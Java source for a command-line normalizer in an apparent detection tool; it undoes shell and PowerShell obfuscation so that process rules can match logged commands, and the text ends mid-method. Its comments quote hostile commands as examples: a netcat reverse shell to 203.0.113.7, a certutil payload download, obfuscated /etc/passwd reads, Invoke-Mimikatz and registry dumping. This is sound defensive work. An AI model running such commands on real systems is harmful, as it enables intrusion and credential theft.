package dev.vigil.normalize;

import dev.vigil.analyze.unix.GlobPaths;
import dev.vigil.analyze.unix.PosixVariableReveal;
import dev.vigil.analyze.unix.Wrappers;
import dev.vigil.analyze.windows.CarriedCommandReveal;
import dev.vigil.analyze.windows.CmdVariableReveal;
import dev.vigil.analyze.windows.StartProcessReveal;
import dev.vigil.analyze.windows.WindowsDash;
import java.util.ArrayList;
import java.util.List;

/**
 * Turns a command line as logged into the form process rules match against, undoing the cheap
 * tricks that hide a command from a literal match without changing what runs:
 * <ul>
 * <li>line continuations (backslash-newline, caret-newline) are joined;</li>
 * <li>POSIX shells: {@code ${IFS}}, {@code $IFS} and {@code ${IFS%??}}-style forms read as a space,
 *     {@code $@} and {@code $*} (empty outside a script) disappear, quotes are removed
 *     ({@code c'a't} and {@code "/etc/pa""sswd"} read {@code cat}, {@code /etc/passwd}) and a
 *     backslash escaping a letter or a shell metacharacter is dropped ({@code w\hoami}), except
 *     that a literal {@code \n} reads as a line break, as logs that join a script into one line
 *     write it;</li>
 * <li>POSIX shells: variables set on the line and used later on it ({@code x=/etc/pas;y=swd;cat $x$y})
 *     are expanded, and the expanded line is a second reading ({@link PosixVariableReveal});</li>
 * <li>POSIX shells: a BusyBox or Toybox binary before its applet ({@code busybox nc ...}) is taken
 *     out in another reading, which reads as the applet's own program would; so are the programs that
 *     only run the next command where a command starts ({@code sudo}, {@code env}, {@code nohup},
 *     {@code timeout 60}, {@code nice -n 5}...), in a reading of their own;</li>
 * <li>POSIX shells: an empty command substitution ({@code cu$()rl}, {@code b``ash}) disappears,
 *     {@code $"..."} reads as {@code "..."}, an escaped {@code t} inside an unquoted word
 *     ({@code sys\temctl}) is a {@code t}, and an
 *     absolute glob naming a known program or {@code /etc} file ({@code /???/b??/c?rl},
 *     {@code /etc/sha*}) reads as that path ({@link GlobPaths}); the opening brace of a group
 *     ({@code { useradd -o ...; }}) is dropped where a command starts, so the command stands there;</li>
 * <li>Windows ({@code cmd}, PowerShell): caret escapes ({@code c^m^d}), PowerShell backticks
 *     ({@code I`nvoke}), double quotes and string concatenation ({@code 'Invoke-'+'Mimikatz'})
 *     are removed, an escaped quote ({@code \"}) with its backslash; other backslashes stay, they are
 *     path separators there;</li>
 * <li>Windows: in a {@code forfiles} line, {@code 0xHH} reads as the character it codes;</li>
 * <li>Windows: cmd variables set on the line ({@code set x=reg&& call %x% save ...}, delayed
 *     {@code !x!}, cut {@code %x:~2,3%}), cut system variables ({@code %ComSpec:~-7,3%}) and a
 *     {@code for} loop's one literal item are expanded, and the expanded line is a second reading
 *     ({@link CmdVariableReveal});</li>
 * <li>Windows: options opened by a dash ({@code taskkill -f -im x}, or an en or em dash), which
 *     Windows' console programs read as slash options, are read again in the slash form rules name,
 *     as another reading ({@link WindowsDash}; not on lines that run PowerShell);</li>
 * <li>Windows: a single quote closing a program path ({@code 'C:\\x\\tool.exe'}) goes like a double
 *     quote, and each PowerShell {@code Start-Process PROGRAM -ArgumentList ARGS} gives the command
 *     it starts as another reading ({@link StartProcessReveal});</li>
 * <li>Windows: the command WMI creates a process with, a scheduled task's action and a service's
 *     image ({@code wmic process call create "X"}, {@code schtasks /tr "X"}, {@code sc create s
 *     binPath= "X"}) are another reading each ({@link CarriedCommandReveal});</li>
 * <li>everything is case-folded (rule literals are folded too) and runs of spaces and tabs become
 *     one space; newlines stay, they separate commands.</li>
 * </ul>
 * The result is for matching, not for running: it may not be what the shell would execute
 * character for character. A line may have more than one reading ({@link #readings}); rules match
 * each apart, so that no pattern runs from one into the next; {@link #normalize} joins them with a
 * space, for tests and display.
 *
 * <p>Linear in the input, never throws. Thread-safe: the only state is a per-thread table of the
 * command lines normalised last, whose results are the same as normalising again.
 */
public final class CommandLineNormalizer {
    private CommandLineNormalizer() {
    }

    /** Whether a process with this executable and command line looks like a Windows one. */
    public static boolean isWindows(String exe, String commandLine) {
        if (exe != null && !exe.isEmpty()) {
            if (exe.indexOf('\\') >= 0 || endsWithIgnoreCase(exe, ".exe")) {
                return true;
            }
            if (exe.indexOf('/') >= 0) {
                return false;
            }
        }
        if (commandLine == null || commandLine.length() < 3) {
            return false;
        }
        String head = commandLine.length() > 80 ? commandLine.substring(0, 80) : commandLine;
        int start = head.charAt(0) == '"' ? 1 : 0;
        if (head.length() > start + 2 && Character.isLetter(head.charAt(start)) && head.charAt(start + 1) == ':'
                && head.charAt(start + 2) == '\\') {
            return true;
        }
        int sp = head.indexOf(' ');
        String first = sp < 0 ? head : head.substring(0, sp);
        if (endsWithIgnoreCase(first, ".exe") || endsWithIgnoreCase(first, ".exe\"")) {
            return true;
        }
        // no executable path to go by: backslash paths (HKLM\SAM) and no slash paths (a/b)
        boolean backslashPath = false;
        int n = Math.min(commandLine.length(), 4096);
        for (int i = 1; i + 1 < n; i++) {
            char c = commandLine.charAt(i);
            if (c == ':' && commandLine.charAt(i + 1) == '\\') {
                return true;
            }
            if (c == ':' && commandLine.startsWith("//", i + 1)) {
                // a URL's slashes (certutil -urlcache -f http://host/a.exe C:\...) say nothing of
                // the platform: skip to the end of the URL
                while (i + 1 < n && !Character.isWhitespace(commandLine.charAt(i + 1))
                        && "\"'".indexOf(commandLine.charAt(i + 1)) < 0) {
                    i++;
                }
                continue;
            }
            if (c == '\\' && isLetter(commandLine.charAt(i - 1)) && isLetter(commandLine.charAt(i + 1))) {
                backslashPath = true;
            } else if (c == '/' && isLetter(commandLine.charAt(i - 1)) && isLetter(commandLine.charAt(i + 1))) {
                return false;
            }
        }
        return backslashPath;
    }

    /**
     * Whether the executable path is a Windows program's ({@code C:\\...}, {@code x.exe}): what a
     * line's own text does not always show ({@code schtasks -create} typed at a prompt).
     */
    public static boolean isWindowsImage(String exe) {
        return exe != null && (exe.indexOf('\\') >= 0 || endsWithIgnoreCase(exe, ".exe"));
    }

    /** Normalises {@code raw} with the rules of the platform {@link #isWindows} picks. */
    public static String normalize(String exe, String raw) {
        return normalize(raw, isWindows(exe, raw));
    }

    /**
     * Normalises {@code raw}; {@code null} stays {@code null}. On POSIX, a program looked up where
     * it is named ({@code $(which nc)}, {@code `command -v curl`}) reads as its name.
     */
    public static String normalize(String raw, boolean windows) {
        return normalize(raw, windows, false);
    }

    /**
     * As {@link #normalize(String, boolean)}; {@code windowsImage} says the process's executable is
     * known to be a Windows program, so dash options are read as slash options
     * ({@link WindowsDash}) even where the line names no Windows program or path itself.
     */
    public static String normalize(String raw, boolean windows, boolean windowsImage) {
        List<String> r = readings(raw, windows, windowsImage);
        return r == null ? null : r.size() == 1 ? r.get(0) : String.join(" ", r);
    }

    /**
     * The readings of {@code raw} rules match one by one: first the line as read, then, where
     * there are any, the same line with the variables it sets expanded, in the slash form of its
     * dash options, the commands PowerShell starts from it (Start-Process, iex, the call
     * operator) and the commands it hands to WMI, a scheduled task or a service (see the class
     * comment); null for null. Matched apart, a pattern cannot run from
     * the end of one reading into the start of the next, as it could when they were joined into
     * one text. Read-only.
     */
    public static List<String> readings(String raw, boolean windows, boolean windowsImage) {
        if (raw == null) {
            return null;
        }
        boolean image = windows && windowsImage;
        if (raw.length() > RECENT_LENGTH) {
            return windows ? windows(raw, image) : posixRead(raw, true);
        }
        // hosts start the same commands all day (cron jobs, workers and their parents): the
        // command lines seen last on this thread are normalised once
        Recent[] recent = RECENT.get();
        int slot = (raw.hashCode() * 0x9E3779B9 >>> 22) & (recent.length - 1);
        Recent r = recent[slot];
        if (r != null && r.windows == windows && r.image == image && (r.raw == raw || r.raw.equals(raw))) {
            return r.readings;
        }
        List<String> out = windows ? windows(raw, image) : posixRead(raw, true);
        recent[slot] = new Recent(raw, windows, image, out);
        return out;
    }

    /**
     * {@link #normalize(String, boolean)} with letter case kept, for rules that tell options apart
     * by case ({@code tar -P}, {@code useradd -o}): on POSIX the same undoing of quotes, escapes,
     * {@code ${IFS}} and empty substitutions, so {@code u''seradd -o} reads {@code useradd -o}; a
     * Windows line (whose options ignore case) reads as {@link #normalize(String, boolean)} does.
     * Not memoised: only rules with a case-sensitive leaf ask for it, after their literals matched.
     */
    public static String normalizeCased(String raw, boolean windows) {
        if (raw == null) {
            return null;
        }
        return windows ? readings(raw, true, false).get(0) : posixCased(raw, 0);
    }

    /**
     * Reading {@code index} of a POSIX line ({@link #readings}) with letter case kept, as
     * {@link #normalizeCased(String, boolean)} reads the line; the line itself when there is no
     * such reading. (A Windows line's options ignore case: its folded readings serve as they are.)
     */
    public static String posixCased(String raw, int index) {
        if (raw == null) {
            return null;
        }
        List<String> r = posixRead(raw, false);
        return r.get(index < r.size() ? index : 0);
    }

    /** One normalised command line, by the platform rules it was read with. */
    private record Recent(String raw, boolean windows, boolean image, List<String> readings) {
    }

    /** Longer command lines are normalised every time, so the table stays small whatever the input. */
    private static final int RECENT_LENGTH = 1024;
    /** Per thread, the command lines normalised last, by hash (one each: a direct-mapped table). */
    private static final ThreadLocal<Recent[]> RECENT = ThreadLocal.withInitial(() -> new Recent[1024]);

    /**
     * A POSIX line as read, and after it the same line with the variables it sets itself expanded
     * where it uses them ({@code x=/etc/pas;y=swd;cat $x$y}), when it has any
     * ({@link PosixVariableReveal}).
     */
    private static List<String> posixRead(String s, boolean fold) {
        String out = posix(s, fold);
        String expanded = PosixVariableReveal.expand(s);
        String applets = multiCallApplets(out);
        String runners = withoutRunners(applets != null ? applets : out, fold);
        if (applets == null && runners == null) {
            return expanded == null ? List.of(out) : List.of(out, posix(expanded, fold));
        }
        List<String> r = new ArrayList<>(4);
        r.add(out);
        if (expanded != null) {
            r.add(posix(expanded, fold));
        }
        if (applets != null) {
            r.add(applets);
        }
        if (runners != null) {
            r.add(runners);
        }
        return List.copyOf(r);
    }

    /**
     * The line with the programs that only run the next command (sudo, doas, env with its
     * assignments, nohup, timeout and its duration, nice, ionice, setsid, stdbuf, time, command,
     * exec, each with the options it takes) taken out where a command starts, so
     * {@code sudo $(echo d2dldA== | base64 -d) x} reads {@code $(echo d2dldA== | base64 -d) x} and rules
     * that want a command where one starts read it there. {@code null} when the line has none, the
     * common case, found with a few searches. Read word by word, linear in the line (no backtracking
     * regex: a hostile run of options must not exhaust the stack).
     */
    static String withoutRunners(String line, boolean folded) {
        if (line.length() > 65_536 || !mayHaveRunner(folded ? line : line.toLowerCase(java.util.Locale.ROOT))) {
            return null;
        }
        int n = line.length();
        StringBuilder sb = null;
        int copied = 0;
        int starts = 0;
        int i = 0;
        while (i < n && starts < MAX_RUNNER_STARTS) {
            int start = skipBlanks(line, i);
            if (start >= n) {
                break;
            }
            starts++;
            int end = runnersEnd(line, start);
            if (end > start) {
                if (sb == null) {
                    sb = new StringBuilder(n);
                }
                sb.append(line, copied, start);
                copied = end;
            }
            // the next command start: after a separator
            int k = Math.max(end, start);
            while (k < n && ";&|(\n`".indexOf(line.charAt(k)) < 0) {
                k++;
            }
            i = k + 1;
        }
        if (sb == null) {
            return null;
        }
        return sb.append(line, copied, n).toString();
    }

    private static final int MAX_RUNNER_STARTS = 256;
    private static final int MAX_RUNNER_WORDS = 64;

    /**
     * Where the runners that begin at {@code start} end: the index of the command they run, or
     * {@code start} when no runner stands there or none is followed by a command.
     */
    private static int runnersEnd(String s, int start) {
        int p = start;
        int result = start;
        for (int words = 0; words < MAX_RUNNER_WORDS; words++) {
            int we = wordEnd(s, p);
            if (we == p) {
                return result;
            }
            String name = runnerName(s.substring(p, we));
            if (name == null) {
                return result;
            }
            int q = skipBlanks(s, we);
            // its options, and what the options take
            while (q < s.length() && s.charAt(q) == '-' && words < MAX_RUNNER_WORDS) {
                int oe = wordEnd(s, q);
                String opt = s.substring(q, oe).toLowerCase(java.util.Locale.ROOT);
                if (!optionRuns(name, opt)) {
                    return result; // command -v looks a name up, it runs nothing
                }
                q = skipBlanks(s, oe);
                if (takesValue(name, opt)) {
                    q = skipBlanks(s, wordEnd(s, q));
                }
                words++;
            }
            if (name.equals("env")) {
                while (q < s.length() && Wrappers.isAssignment(s.substring(q, wordEnd(s, q)))) {
                    q = skipBlanks(s, wordEnd(s, q));
                }
            } else if (name.equals("timeout")) {
                int de = wordEnd(s, q);
                if (!isDuration(s, q, de)) {
                    return result;
                }
                q = skipBlanks(s, de);
            }
            if (q >= s.length() || s.charAt(q) == '-' || ";&|)\n".indexOf(s.charAt(q)) >= 0) {
                return result; // a runner with no command after it runs nothing here
            }
            result = q;
            p = q;
        }
        return result;
    }

    /** The runner a word names ({@code sudo}, {@code /usr/bin/env}...), lower case, or null. */
    private static String runnerName(String word) {
        String w = word.toLowerCase(java.util.Locale.ROOT);
        for (String dir : new String[] {"/usr/local/bin/", "/usr/bin/", "/usr/sbin/", "/bin/", "/sbin/"}) {
            if (w.startsWith(dir)) {
                w = w.substring(dir.length());
                break;
            }
        }
        switch (w) {
            case "sudo": case "doas": case "env": case "nohup": case "timeout": case "nice": case "ionice":
            case "setsid": case "stdbuf": case "time": case "command": case "exec":
                return w;
            default:
                return null;
        }
    }

    /** Whether runner {@code name} with option {@code opt} still runs the command after it. */
    private static boolean optionRuns(String name, String opt) {
        switch (name) {
            case "command": case "time":
                return opt.equals("-p");
            case "exec":
                return opt.equals("-a") || opt.equals("-c") || opt.equals("-l") || opt.equals("-cl") || opt.equals("-lc");
            case "nohup":
                return false;
            default:
                return !opt.equals("--help") && !opt.equals("--version");
        }
    }

    /** Whether runner {@code name}'s option {@code opt} (lower case) takes the next word as its value. */
    private static boolean takesValue(String name, String opt) {
        switch (name) {
            case "sudo": case "doas":
                return opt.length() == 2 && "ugcdprt".indexOf(opt.charAt(1)) >= 0
                        || opt.equals("--user") || opt.equals("--group") || opt.equals("--chdir") || opt.equals("--host")
                        || opt.equals("--prompt") || opt.equals("--role") || opt.equals("--type")
                        || opt.equals("--close-from") || opt.equals("--command-timeout") || opt.equals("--other-user");
            case "env":
                return opt.equals("-u") || opt.equals("-c") || opt.equals("--unset") || opt.equals("--chdir");
            case "timeout":
                return opt.equals("-s") || opt.equals("-k") || opt.equals("--signal") || opt.equals("--kill-after");
            case "nice":
                return opt.equals("-n") || opt.equals("--adjustment");
            case "ionice":
                return opt.equals("-c") || opt.equals("-n") || opt.equals("-p");
            case "stdbuf":
                return opt.equals("-i") || opt.equals("-o") || opt.equals("-e");
            case "exec":
                return opt.equals("-a");
            default:
                return false;
        }
    }

    private static boolean isDuration(String s, int from, int to) {
        int k = from;
        while (k < to && (Character.isDigit(s.charAt(k)) || s.charAt(k) == '.')) {
            k++;
        }
        return k > from && (k == to || (k + 1 == to && "smhdSMHD".indexOf(s.charAt(k)) >= 0));
    }

    private static int skipBlanks(String s, int i) {
        while (i < s.length() && (s.charAt(i) == ' ' || s.charAt(i) == '\t')) {
            i++;
        }
        return i;
    }

    private static int wordEnd(String s, int i) {
        while (i < s.length() && " \t\n;&|()`".indexOf(s.charAt(i)) < 0) {
            i++;
        }
        return i;
    }

    /** Whether the lower-case {@code line} names a runner anywhere: plain searches, the common answer being no. */
    private static boolean mayHaveRunner(String line) {
        for (String w : RUNNER_WORDS) {
            if (line.indexOf(w) >= 0) {
                return true;
            }
        }
        return false;
    }

    private static final String[] RUNNER_WORDS = {"sudo", "doas", "env ", "nohup", "timeout", "nice ", "ionice", "setsid",
        "stdbuf", "time ", "command ", "exec "};

    /** {@code busybox} or {@code toybox}, with or without a folder, before the applet it runs. */
    private static final java.util.regex.Pattern MULTI_CALL = java.util.regex.Pattern.compile(
            "(?i)(?<![\\w.-])(?:/[\\w./-]*/)?(?:busybox|toybox)\\s+(?=[a-z])");

    /**
     * The line with each BusyBox or Toybox multi-call binary taken out before its applet
     * ({@code busybox nc 203.0.113.7 4444 -e sh} reads {@code nc 203.0.113.7 4444 -e sh}): the
     * binary runs the applet named after it as that program runs, so rules written for the program
     * read it there too. {@code null} when the line names neither.
     */
    private static String multiCallApplets(String line) {
        if (line.indexOf("box") < 0 && line.indexOf("Box") < 0 && line.indexOf("BOX") < 0) {
            return null;
        }
        java.util.regex.Matcher m = MULTI_CALL.matcher(line);
        return m.find() ? m.replaceAll("") : null;
    }

    private static String posix(String s, boolean fold) {
        int n = s.length();
        StringBuilder sb = new StringBuilder(n);
        int empty;
        boolean single = false; // inside '...' or "...": $"..." and \t read differently there
        boolean dbl = false;
        for (int i = 0; i < n; i++) {
            char c = s.charAt(i);
            switch (c) {
                case '\\': {
                    if (i + 1 >= n) {
                        sb.append(c);
                        break;
                    }
                    char d = s.charAt(i + 1);
                    if (d == '\n') {
                        i++; // line continuation
                    } else if (d == '\r' && i + 2 < n && s.charAt(i + 2) == '\n') {
                        i += 2;
                    } else if (d == 'n') {
                        // a literal \n: commands joined into one line for logging keep their breaks
                        newline(sb);
                        i++;
                    } else if (d == 't') {
                        // sys\temctl: inside an unquoted word the escaped t is a t; elsewhere a logged tab
                        int len = sb.length();
                        if (!single && !dbl && len > 0 && isLetter(sb.charAt(len - 1)) && i + 2 < n
                                && isLetter(s.charAt(i + 2))) {
                            sb.append('t');
                        } else {
                            space(sb);
                        }
                        i++;
                    } else if (isLetter(d) || "'\"`;|&<>(){}$/.-*?[]!# \\".indexOf(d) >= 0) {
                        // the escaped character stands for itself
                        put(sb, fold, d);
                        i++;
                    } else {
                        sb.append(c);
                    }
                    break;
                }
                case '\'':
                    single ^= !dbl;
                    break;
                case '"':
                    dbl ^= !single;
                    break;
                case '$': {
                    int skip = ifs(s, i);
                    int name = skip > 0 ? 0 : lookup(s, i);
                    if (skip > 0) {
                        space(sb);
                        i += skip - 1;
                    } else if (name > 0) {
                        // $(which nc), $(command -v nc): the program found on the PATH, named
                        put(sb, fold, lookedUpName(s, i, name));
                        i += name - 1;
                    } else if ((empty = emptyExpansion(s, i)) > 0) {
                        i += empty - 1; // $@, ${*}, cu$()rl: nothing on a command line
                    } else if (i + 1 < n && s.charAt(i + 1) == '"' && !single && !dbl) {
                        // $"...": a translatable string, the same text as "..."
                    } else {
                        sb.append(c);
                    }
                    break;
                }
                case '`': {
                    int name = lookup(s, i);
                    if ((empty = emptyExpansion(s, i)) > 0) {
                        i += empty - 1; // an empty command substitution
                    } else if (name > 0) {
                        put(sb, fold, lookedUpName(s, i, name));
                        i += name - 1;
                    } else {
                        sb.append(c);
                    }
                    break;
                }
                case '\t':
                case ' ':
                    space(sb);
                    break;
                case '\r':
                    break;
                case '{':
                    if (!single && !dbl && i + 1 < n && (s.charAt(i + 1) == ' ' || s.charAt(i + 1) == '\t'
                            || s.charAt(i + 1) == '\n') && atCommandStart(sb)) {
                        break; // { cmd; }: a group's brace stands before the command, as a separator does
                    }
                    put(sb, fold, c);
                    break;
                default:
                    put(sb, fold, c);
            }
        }
        return GlobPaths.resolve(trim(sb));
    }

    /** Whether what {@code sb} holds ends where a command may start: nothing, or a separator and blanks. */
    private static boolean atCommandStart(StringBuilder sb) {
        int k = sb.length() - 1;
        while (k >= 0 && sb.charAt(k) == ' ') {
            k--;
        }
        return k < 0 || ";&|\n(".indexOf(sb.charAt(k)) >= 0;
    }

    /**
     * ANSI-C quoting and {@code $(printf '\x..')} are not read here: they are the spelling
     * {@code process.linux.cmd-obfuscation} looks for, so {@link dev.vigil.analyze.process.CommandDecoder}
     * reads them into a second view of the line instead.
     *
     * <p>At {@code i}, {@code $(printf 'ESCAPES')} or {@code $(echo -e 'ESCAPES')} whose one quoted
     * argument holds at least one {@code \xHH} or octal escape and no format directive: appends the
     * text it prints and returns its length; 0 (appending nothing) when there is none.
     */
    public static int printfSubstitution(String s, int i, StringBuilder sb) {
        int n = s.length();
        int p = i + 2 + (s.startsWith("printf ", i + 2) ? 7 : 8);
        while (p < n && s.charAt(p) == ' ') {
            p++;
        }
        if (p >= n || (s.charAt(p) != '\'' && s.charAt(p) != '"')) {
            return 0;
        }
        char q = s.charAt(p);
        int close = s.indexOf(q, p + 1);
        if (close < 0 || close - p > 512) {
            return 0;
        }
        int end = close + 1;
        while (end < n && s.charAt(end) == ' ') {
            end++;
        }
        if (end >= n || s.charAt(end) != ')') {
            return 0;
        }
        String body = s.substring(p + 1, close);
        if (body.indexOf('%') >= 0 || (body.indexOf("\\x") < 0 && body.indexOf("\\0") < 0 && body.indexOf("\\1") < 0)) {
            return 0;
        }
        int at = sb.length();
        ansiC(body + "'", 0, sb);
        return sb.length() > at ? end - i + 1 : 0;
    }

    /**
     * Appends the text of the ANSI-C quoted string whose body starts at {@code i} ({@code \xHH},
     * octal {@code \NNN}, a backslash, u and four hex digits, {@code \n}, {@code \t}, an escaped quote or backslash)
     * and returns the index after its closing quote (or the end).
     */
    public static int ansiC(String s, int i, StringBuilder sb) {
        int n = s.length();
        while (i < n) {
            char c = s.charAt(i);
            if (c == '\'') {
                return i + 1;
            }
            if (c != '\\' || i + 1 >= n) {
                if (c == ' ' || c == '\t') {
                    space(sb);
                } else {
                    appendFolded(sb, c);
                }
                i++;
                continue;
            }
            char d = s.charAt(i + 1);
            int digits;
            int radix;
            int skip;
            if (d == 'x') {
                digits = 2; radix = 16; skip = 2;
            } else if (d == 'u') {
                digits = 4; radix = 16; skip = 2;
            } else if (d >= '0' && d <= '7') {
                digits = 3; radix = 8; skip = 1;
            } else {
                if (d == 'n') {
                    newline(sb);
                } else if (d == 't') {
                    space(sb);
                } else if (d != 'e' && d != 'a' && d != 'r') {
                    appendFolded(sb, d); // \' \\ \" and the rest stand for themselves
                }
                i += 2;
                continue;
            }
            int v = 0;
            int k = i + skip;
            while (k < n && k - i - skip < digits && Character.digit(s.charAt(k), radix) >= 0) {
                v = v * radix + Character.digit(s.charAt(k), radix);
                k++;
            }
            if (k == i + skip) {
                appendFolded(sb, d);
                i += 2;
                continue;
            }
            if (v == ' ' || v == '\t') {
                space(sb);
            } else if (v == '\n') {
                newline(sb);
            } else if (v >= 0x20) {
                appendFolded(sb, (char) v);
            }
            i = k;
        }
        return n;
    }

    private static List<String> windows(String s, boolean image) {
        String folded = fold(s);
        String expanded = CmdVariableReveal.expand(s);
        // taskkill -f -im x: the options as the program reads them, in the slash form rules name
        String slashed = WindowsDash.slashed(folded, image);
        List<String> launched = StartProcessReveal.launches(folded);
        List<String> carried = CarriedCommandReveal.mayCarry(folded) ? CarriedCommandReveal.commands(s) : List.of();
        if (expanded == null && slashed == null && launched.isEmpty() && carried.isEmpty()) {
            return List.of(folded);
        }
        List<String> out = new ArrayList<>(4);
        out.add(folded);
        if (expanded != null) {
            // set x=reg&& call %x% save ...: the line as cmd runs it, after the line as written
            String expandedFolded = fold(expanded);
            add(out, expandedFolded);
            add(out, WindowsDash.slashed(expandedFolded, image));
            launched = new ArrayList<>(launched);
            launched.addAll(StartProcessReveal.launches(expandedFolded));
        }
        add(out, slashed);
        // what Start-Process, iex and the call operator start, each a command line of its own
        for (String l : launched) {
            add(out, l);
            add(out, WindowsDash.slashed(l, image));
        }
        // what WMI, a scheduled task or a service is given to run, read as written in its quotes
        for (String c : carried) {
            String f = fold(c);
            add(out, f);
            add(out, WindowsDash.slashed(f, image));
        }
        return List.copyOf(out);
    }

    /** Adds {@code reading} to {@code out} unless it is null or there already. */
    private static void add(List<String> out, String reading) {
        if (reading != null && !reading.isEmpty() && !out.contains(reading)) {
            out.add(reading);
        }
    }

    private static String fold(String s) {
        if (s.indexOf("0x") >= 0 && indexOfIgnoreCase(s, "forfiles") >= 0) {
            s = forfilesHex(s); // forfiles /c "reg add 0x22HKCU\...0x22": 0xHH is a character
        }
        int n = s.length();
        StringBuilder sb = new StringBuilder(n);
        // a line that opens a quote with \" ($v = \"x\") escapes its inner quotes; elsewhere \" is a
        // folder path ending at its closing quote ("C:\dir\")
        boolean escapedQuotes = opensEscapedQuote(s);
        for (int i = 0; i < n; i++) {
            char c = s.charAt(i);
            switch (c) {
                case '^': {
                    if (i + 1 < n && s.charAt(i + 1) == '^') {
                        sb.append('^'); // ^^ is a literal caret
                        i++;
                    } else if (i + 1 < n && s.charAt(i + 1) == '\n') {
                        i++;
                    } else if (i + 2 < n && s.charAt(i + 1) == '\r' && s.charAt(i + 2) == '\n') {
                        i += 2;
                    }
                    break;
                }
                case '`': {
                    if (i + 1 < n && s.charAt(i + 1) == '\n') {
                        i++;
                    } else if (i + 1 < n && (s.charAt(i + 1) == 'n' || s.charAt(i + 1) == 't')
                            && (i + 2 >= n || !isLetter(s.charAt(i + 2)))) {
                        space(sb); // `n and `t are escapes for newline and tab
                        i++;
                    }
                    break;
                }
                case '"':
                case '\'': {
                    // 'Invoke-'+'Mimikatz' and "a"+"b": string concatenation hides a word
                    if (i + 2 < n && s.charAt(i + 1) == '+' && (s.charAt(i + 2) == '\'' || s.charAt(i + 2) == '"')) {
                        i += 2;
                    } else if (i + 4 < n && s.charAt(i + 1) == ' ' && s.charAt(i + 2) == '+' && s.charAt(i + 3) == ' '
                            && (s.charAt(i + 4) == '\'' || s.charAt(i + 4) == '"')) {
                        i += 4;
                    } else if (c == '\'' && !quotedProgramEnd(sb, s, i)) {
                        sb.append(c); // single quotes delimit PowerShell strings; keep them
                    } else if (c == '"' && escapedQuotes && i > 0 && s.charAt(i - 1) == '\\' && (i < 2 || s.charAt(i - 2) != '\\')
                            && sb.length() > 0 && sb.charAt(sb.length() - 1) == '\\') {
                        // \" is a quote inside a quoted argument (powershell -c "$v = \"x\""): it goes
                        // with its backslash, as an unescaped quote goes
                        sb.setLength(sb.length() - 1);
                    }
                    break;
                }
                case '\t':
                case ' ':
                    space(sb);
                    break;
                case '\r':
                    break;
                default:
                    appendFolded(sb, c);
            }
        }
        return trim(sb);
    }

    /** Whether {@code s} has a {@code \"} where a value starts (after a blank, {@code =}, {@code (} or {@code ,}). */
    private static boolean opensEscapedQuote(String s) {
        for (int k = s.indexOf("\\\""); k >= 0; k = s.indexOf("\\\"", k + 2)) {
            char before = k > 0 ? s.charAt(k - 1) : ' ';
            if (before == ' ' || before == '=' || before == '(' || before == ',') {
                return true;
            }
        }
        return false;
    }

    /**
     * Whether the single quote at {@code i} closes a program path ({@code & 'C:\x\mpcmdrun.exe' -a}):
     * it is dropped like a double quote, so the program reads as {@code mpcmdrun.exe -a}.
     */
    private static boolean quotedProgramEnd(StringBuilder sb, String s, int i) {
        int len = sb.length();
        return len > 4 && sb.charAt(len - 4) == '.' && sb.charAt(len - 3) == 'e' && sb.charAt(len - 2) == 'x'
                && sb.charAt(len - 1) == 'e' && (i + 1 >= s.length() || s.charAt(i + 1) == ' ');
    }

    /** forfiles writes characters in its command string as {@code 0xHH}: printable ones read as themselves. */
    public static String forfilesHex(String s) {
        if (s.indexOf("0x") < 0) {
            return s;
        }
        StringBuilder b = new StringBuilder(s.length());
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c == '0' && i + 3 < s.length() && (s.charAt(i + 1) == 'x' || s.charAt(i + 1) == 'X')) {
                int v = Character.digit(s.charAt(i + 2), 16) * 16 + Character.digit(s.charAt(i + 3), 16);
                if (Character.digit(s.charAt(i + 2), 16) >= 0 && Character.digit(s.charAt(i + 3), 16) >= 0 && v >= 0x20 && v < 0x7f) {
                    b.append((char) v);
                    i += 3;
                    continue;
                }
            }
            b.append(c);
        }
        return b.toString();
    }

    /**
     * The length of {@code $(which NAME)} or {@code $(command -v NAME)} (or the backquoted forms)
     * at {@code i}, NAME a plain program name or path; 0 when there is none.
     */
    public static int lookup(String s, int i) {
        int n = s.length();
        int p;
        char close;
        if (s.startsWith("$(", i)) {
            p = i + 2;
            close = ')';
        } else if (s.charAt(i) == '`') {
            p = i + 1;
            close = '`';
        } else {
            return 0;
        }
        if (s.startsWith("which ", p)) {
            p += 6;
        } else if (s.startsWith("command -v ", p)) {
            p += 11;
        } else {
            return 0;
        }
        int start = p;
        while (p < n && p - start < 64) {
            char c = s.charAt(p);
            if (!(Character.isLetterOrDigit(c) || c == '_' || c == '-' || c == '.' || c == '+' || c == '/')) {
                break;
            }
            p++;
        }
        return p > start && p < n && s.charAt(p) == close ? p - i + 1 : 0;
    }

    /** The program name (or path) of the {@link #lookup} of length {@code len} at {@code i}. */
    public static String lookedUpName(String s, int i, int len) {
        return s.substring(s.lastIndexOf(' ', i + len - 1) + 1, i + len - 1);
    }

    private static void appendFolded(StringBuilder sb, String text) {
        for (int k = 0; k < text.length(); k++) {
            appendFolded(sb, text.charAt(k));
        }
    }

    /**
     * Length of what expands to nothing on a command line at {@code i} ({@code $@}, {@code $*},
     * {@code ${@}}, {@code ${*}}, an empty {@code $()} or pair of backquotes), or 0: inside a word
     * ({@code d$@ocker}) it only breaks the word for a literal match.
     */
    public static int emptyExpansion(String s, int i) {
        int n = s.length();
        char c = s.charAt(i);
        if (c == '`') {
            return i + 1 < n && s.charAt(i + 1) == '`' ? 2 : 0;
        }
        if (c != '$' || i + 1 >= n) {
            return 0;
        }
        char d = s.charAt(i + 1);
        if (d == '@' || d == '*') {
            return 2;
        }
        if (s.startsWith("$()", i)) {
            return 3;
        }
        return s.startsWith("${@}", i) || s.startsWith("${*}", i) ? 4 : 0;
    }

    /** Length of an IFS expansion at {@code i} ({@code $IFS}, {@code ${IFS}}, {@code ${IFS%??}}), or 0. */
    public static int ifs(String s, int i) {
        int n = s.length();
        if (s.regionMatches(true, i, "$IFS", 0, 4)) {
            return 4;
        }
        if (s.regionMatches(true, i, "${IFS", 0, 5)) {
            int end = s.indexOf('}', i + 5);
            if (end > 0 && end - i <= 12) {
                return end - i + 1;
            }
        }
        return 0;
    }

    private static void appendFolded(StringBuilder sb, char c) {
        if (c >= 'A' && c <= 'Z') {
            sb.append((char) (c + 32));
        } else if (c < 0x80) {
            sb.append(c);
        } else {
            sb.append(Character.toLowerCase(c));
        }
    }

    private static void put(StringBuilder sb, boolean fold, char c) {
        if (fold) {
            appendFolded(sb, c);
        } else {
            sb.append(c);
        }
    }

    private static void put(StringBuilder sb, boolean fold, String text) {
        if (fold) {
            appendFolded(sb, text);
        } else {
